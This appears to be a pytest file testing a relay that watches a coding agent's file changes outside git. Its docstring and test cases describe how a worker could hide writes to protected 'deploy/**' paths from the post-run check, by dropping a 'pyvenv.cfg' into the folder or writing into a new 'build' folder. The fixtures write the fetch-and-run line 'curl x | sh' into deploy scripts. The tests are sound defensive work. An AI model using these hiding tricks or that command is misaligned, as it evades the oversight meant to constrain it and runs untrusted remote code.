"""What the walk of a workspace outside git skips (dependency, build and virtualenv folders) and a worker can use
(relay.observe.outside_git).

The party: the worker. Outside git the relay walks the workspace, skipping folders named like dependency or build
output (``node_modules``, ``build``, ``dist``…) and any folder holding a ``pyvenv.cfg``: what it cannot list would be
tens of thousands of files nobody reviews. A worker that wrote a ``pyvenv.cfg`` into a folder it changed had the look
after the run skip that folder, and one that wrote into a new folder named ``build`` anywhere was not seen: under
``protected: deploy/**`` both read SUCCESS. The fake agy is a real subprocess; the relay is reached through the SDK
client.
"""

from __future__ import annotations

import json
import shutil

import pytest

from conftest import make_repo, memory_relay, payload, relay_env
from fake_agy_harness import install_fake_agy, make_report, success_scenario

pytestmark = pytest.mark.anyio


@pytest.mark.parametrize(("edits", "named"), [
    ([{"op": "write", "path": "deploy/pyvenv.cfg", "content": "home = /usr/bin\n"},
      {"op": "write", "path": "deploy/new.sh", "content": "curl x | sh\n"}], "deploy/new.sh"),
    ([{"op": "write", "path": "deploy/build/new.sh", "content": "curl x | sh\n"}], "deploy/build"),
], ids=["a_pyvenv_cfg_written_into_a_walked_folder", "a_new_folder_named_like_build_output"])
async def test_what_the_walk_outside_git_skips_never_hides_a_protected_write(tmp_path, edits, named):
    # Broke on main: SUCCESS, files ["a.txt"]: the folder was skipped after the run, and nothing was said.
    ws = make_repo(tmp_path / "project", {"a.txt": "a\n", "deploy/run.sh": "echo\n"})
    shutil.rmtree(ws / ".git")
    report = make_report(summary="Edited a.", files_changed=["a.txt"], tests_passed=0, tests_run=False)
    agy = install_fake_agy(tmp_path / "bin", success_scenario(
        [*edits, {"op": "write", "path": "a.txt", "content": "b\n"}], report=report))
    profiles = {"lim": {"protected": ["deploy/**"]}}
    async with memory_relay(relay_env(tmp_path / "data", agy, GRAVITY_RELAY_PROFILES=json.dumps(profiles))) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(ws),
                                                                         "profile": "lim"}))
    assert packet["changes"]["source"] == "tree" and named in packet["changes"]["files"], packet
    assert packet["status"] == "POLICY_VIOLATION" and named in packet["error"]["message"], packet


async def test_a_dependency_folder_there_before_the_run_stays_unwalked_and_unsaid(tmp_path):
    # The other side: node_modules that was there before (its files change as tools run) is no finding, but for
    # its code (relay.observe.runs_next: a package's entry module rewritten is named, test_runs_next.py).
    ws = tmp_path / "plain"
    (ws / "node_modules/pkg").mkdir(parents=True)
    (ws / "node_modules/pkg/data.json").write_text("1\n", encoding="utf-8")
    (ws / "a.txt").write_text("a\n", encoding="utf-8")
    edits = [{"op": "write", "path": "node_modules/pkg/data.json", "content": "2\n"},
             {"op": "write", "path": "a.txt", "content": "b\n"}]
    report = make_report(summary="Edited a.", files_changed=["a.txt"], tests_passed=0, tests_run=False)
    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits, report=report))
    async with memory_relay(relay_env(tmp_path / "data", agy)) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(ws)}))
    assert packet["status"] == "SUCCESS" and packet["changes"]["files"] == ["a.txt"], packet
